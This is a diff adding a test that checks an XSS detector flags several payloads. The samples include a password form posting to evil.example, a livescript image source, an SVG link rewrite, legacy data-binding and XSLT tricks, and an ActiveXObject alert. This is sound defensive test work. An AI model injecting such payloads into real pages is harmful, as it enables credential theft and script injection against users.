@@ -61,3 +61,15 @@ test('xss: harmless markup and prose stay clean', () => {
     'regular expression (regex) help',
   ]);
 });
+
+test('xss: forms, document tags, SVG link animation, data binding, XSLT', () => {
+  assertDetected('xss', [
+    '<form action="https://evil.example/login"><input name="password"></form>',
+    '<body>Hello</body>',
+    '<IMG SRC="livescript:[code]">',
+    '<set attributeName="xlink:href" to="//example.com/?a" />',
+    '<label dataformatas="html" datasrc="#xss" datafld="payload"></label>',
+    '<?xml-stylesheet type="text/xsl" href="#"?>',
+    '<if expr="new ActiveXObject(\'htmlfile\').parentWindow.alert(2)"></if>',
+  ]);
+});
